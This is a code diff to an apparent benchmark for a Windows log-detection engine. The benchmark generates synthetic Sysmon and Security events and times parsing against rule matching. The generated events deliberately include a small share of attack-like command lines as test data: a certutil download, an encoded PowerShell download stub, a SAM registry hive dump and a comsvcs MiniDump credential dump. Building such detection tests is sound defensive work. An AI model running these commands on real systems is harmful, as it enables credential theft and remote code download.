@@ -38,8 +38,8 @@ function parse(text: string, path: string): KahuEvent[] {
   return out;
 }
 
-/** Deterministic generator of evtx_dump-layout Windows events as JSON text. */
-function* generate(total: number, slice: number): Generator<string> {
+/** Deterministic generator of evtx_dump-layout Windows events as JSON text (slices of `slice` events). */
+export function* generate(total: number, slice: number): Generator<string> {
   let x = 12345;
   const rnd = (n: number): number => ((x = (x * 1103515245 + 12345) & 0x7fffffff) % n);
   const pick = <T>(a: readonly T[]): T => a[rnd(a.length)]!;
@@ -49,12 +49,35 @@ function* generate(total: number, slice: number): Generator<string> {
     'C:\\Windows\\System32\\conhost.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
     'C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe', 'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\certutil.exe',
   ];
-  const cmds = [
-    'svchost.exe -k netsvcs -p', 'cmd.exe /c dir', 'powershell.exe -NoProfile -Command Get-Process', '"chrome.exe" --type=renderer',
-    'explorer.exe', 'rundll32.exe shell32.dll,Control_RunDLL', 'conhost.exe 0xffffffff -ForceV1', 'WINWORD.EXE /n report.docx',
-    'reg.exe query HKLM\\Software\\Microsoft', 'certutil.exe -urlcache -split -f http://example.test/a.txt a.txt',
-    'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'cmd.exe /c whoami /all',
+  // Mostly ordinary activity; 2% of command lines are attack-like, so findings stay at a realistic rate.
+  const benign = [
+    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'cmd.exe /c dir C:\\Users\\bob\\Documents',
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234',
+    'C:\\Windows\\Explorer.EXE', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
+    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\bob\\report.docx"',
+    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
+    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Service',
   ];
+  const suspicious = [
+    'certutil.exe -urlcache -split -f http://example.test/a.txt a.txt', 'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
+    'cmd.exe /c whoami /all', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full',
+  ];
+  const cmd = (): string => (rnd(100) < 2 ? pick(suspicious) : pick(benign));
+  /** A process creation: image, command line, parent image (ordinary pairs; 2% attack-like command lines). */
+  const normal: Array<[string, string, string]> = [
+    ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
+    ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\bob\\Documents', 'C:\\Windows\\explorer.exe'],
+    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
+    ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff', 'C:\\Windows\\System32\\cmd.exe'],
+    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\bob\\report.docx"', 'C:\\Windows\\explorer.exe'],
+    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
+    ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
+    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Service', 'C:\\Windows\\explorer.exe'],
+  ];
+  const proc = (): [string, string, string] => {
+    const p = pick(normal);
+    return rnd(100) < 2 ? [p[0], pick(suspicious), p[2]] : p;
+  };
   const users = ['CORP\\bob', 'CORP\\alice', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup'];
   const regs = ['HKLM\\System\\CurrentControlSet\\Services\\x\\Start', 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x', 'HKLM\\Software\\Classes\\x'];
   const sys = (channel: string, provider: string, id: number, rec: number): object => ({
@@ -75,7 +98,8 @@ function* generate(total: number, slice: number): Generator<string> {
       const k = rnd(100);
       let ev: object;
       if (k < 35) {
-        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 1, rec), EventData: { RuleName: '-', UtcTime: '2024-01-01 00:00:00.000', ProcessGuid: '{0197231E-C424-69E1-C922-000000000800}', ProcessId: rnd(9000), Image: pick(images), FileVersion: '10.0', Description: 'x', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'x.exe', CommandLine: pick(cmds), CurrentDirectory: 'C:\\Windows\\system32\\', User: pick(users), LogonGuid: '{x}', LogonId: '0x3e7', TerminalSessionId: 0, IntegrityLevel: 'High', Hashes: 'SHA256=ABCD', ParentProcessGuid: '{y}', ParentProcessId: 1000, ParentImage: pick(images), ParentCommandLine: pick(cmds), ParentUser: pick(users) } };
+        const [image, commandLine, parentImage] = proc();
+        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 1, rec), EventData: { RuleName: '-', UtcTime: '2024-01-01 00:00:00.000', ProcessGuid: '{0197231E-C424-69E1-C922-000000000800}', ProcessId: rnd(9000), Image: image, FileVersion: '10.0.19041.1', Description: 'Windows host process', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: image.split('\\').pop()!, CommandLine: commandLine, CurrentDirectory: 'C:\\Windows\\system32\\', User: pick(users), LogonGuid: '{x}', LogonId: '0x3e7', TerminalSessionId: 0, IntegrityLevel: 'Medium', Hashes: `SHA256=${(rec * 2654435761).toString(16).toUpperCase().padStart(64, '0')}`, ParentProcessGuid: '{y}', ParentProcessId: 1000, ParentImage: parentImage, ParentCommandLine: parentImage, ParentUser: pick(users) } };
       } else if (k < 50) {
         ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 3, rec), EventData: { Image: pick(images), User: pick(users), Protocol: 'tcp', Initiated: 'true', SourceIp: `10.0.${rnd(255)}.${rnd(255)}`, SourcePort: rnd(65535), DestinationIp: `52.${rnd(255)}.${rnd(255)}.${rnd(255)}`, DestinationPort: pick([443, 80, 445, 3389]), DestinationHostname: 'example.test' } };
       } else if (k < 65) {
@@ -85,7 +109,7 @@ function* generate(total: number, slice: number): Generator<string> {
       } else if (k < 90) {
         ev = { System: sys('Security', 'Microsoft-Windows-Security-Auditing', 4624, rec), EventData: { SubjectUserSid: 'S-1-5-18', TargetUserName: pick(['bob', 'alice', 'svc_backup']), TargetDomainName: 'CORP', LogonType: pick([2, 3, 10]), IpAddress: `10.0.0.${rnd(255)}`, AuthenticationPackageName: 'Negotiate', LogonProcessName: 'User32' } };
       } else if (k < 95) {
-        ev = { System: sys('Security', 'Microsoft-Windows-Security-Auditing', 4688, rec), EventData: { SubjectUserName: 'bob', SubjectLogonId: '0x3e7', NewProcessId: '0x1a2b', NewProcessName: pick(images), ProcessId: '0x1000', CommandLine: pick(cmds), ParentProcessName: pick(images), MandatoryLabel: 'S-1-16-12288' } };
+        ev = { System: sys('Security', 'Microsoft-Windows-Security-Auditing', 4688, rec), EventData: { SubjectUserName: 'bob', SubjectLogonId: '0x3e7', NewProcessId: '0x1a2b', NewProcessName: pick(images), ProcessId: '0x1000', CommandLine: cmd(), ParentProcessName: pick(images), MandatoryLabel: 'S-1-16-12288' } };
       } else {
         ev = { System: sys('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, rec), EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: pick(['Get-Process | Select-Object Name', 'Invoke-WebRequest -Uri http://example.test -OutFile x', 'Write-Host hello', '$a = [Convert]::FromBase64String($b)']), ScriptBlockId: '{z}', Path: '' } };
       }
@@ -95,14 +119,14 @@ function* generate(total: number, slice: number): Generator<string> {
   }
 }
 
-/** Times parse-only and rules-only on one text; returns [parseMs, rulesMs, events, findings]. */
-function measure(text: string, match: (evs: KahuEvent[]) => number): [number, number, number, number] {
+/** Times parse-only and rules-only on one text; returns [parseMs, rulesMs, events, findings, the events]. */
+function measure(text: string, match: (evs: KahuEvent[]) => number): [number, number, number, number, KahuEvent[]] {
   const t0 = performance.now();
   const evs = parse(text, 'bench.json');
   const t1 = performance.now();
   const found = match(evs);
   const t2 = performance.now();
-  return [t1 - t0, t2 - t1, evs.length, found];
+  return [t1 - t0, t2 - t1, evs.length, found, evs];
 }
 
 function fmt(n: number): string {
@@ -163,11 +187,14 @@ export async function main(args: string[]): Promise<void> {
   n = 0;
   found = 0;
   let cands = 0;
+  let evaluated = 0;
   for (const text of generate(total, 50_000)) {
-    const [pm, rm, ne, nf] = measure(text, (evs) => {
-      for (const ev of evs.slice(0, 1000)) cands += det.index.candidates(ev).length;
-      return matchAll(evs);
-    });
+    const [pm, rm, ne, nf, evs] = measure(text, matchAll);
+    // Outside the timed region: how many variants the index offers, and how many pass the literal prefilter.
+    for (const ev of evs.slice(0, 1000)) {
+      cands += det.index.candidates(ev).length;
+      evaluated += det.index.match(ev, () => undefined);
+    }
     p += pm;
     r += rm;
     n += ne;
@@ -175,7 +202,8 @@ export async function main(args: string[]): Promise<void> {
   }
   const sampled = Math.min(n, Math.ceil(total / 50_000) * 1000);
   process.stdout.write(
-    `generated stream (${fmt(n)} events): ${fmt(found)} findings, ${(cands / sampled).toFixed(1)} candidate rule variants per event (of ${det.index.targets.length})\n` +
+    `generated stream (${fmt(n)} events): ${fmt(found)} findings; per event ${(cands / sampled).toFixed(1)} variants by Channel/EventID ` +
+        `(of ${det.index.targets.length}), ${(evaluated / sampled).toFixed(1)} evaluated after the literal prefilter\n` +
       `  parse only      ${fmt((n / p) * 1000)} events/s\n` +
       `  parse + rules   ${fmt((n / (p + r)) * 1000)} events/s\n` +
       `  rules / parse   ${(r / p).toFixed(2)}x  (goal <= 0.50)\n`,
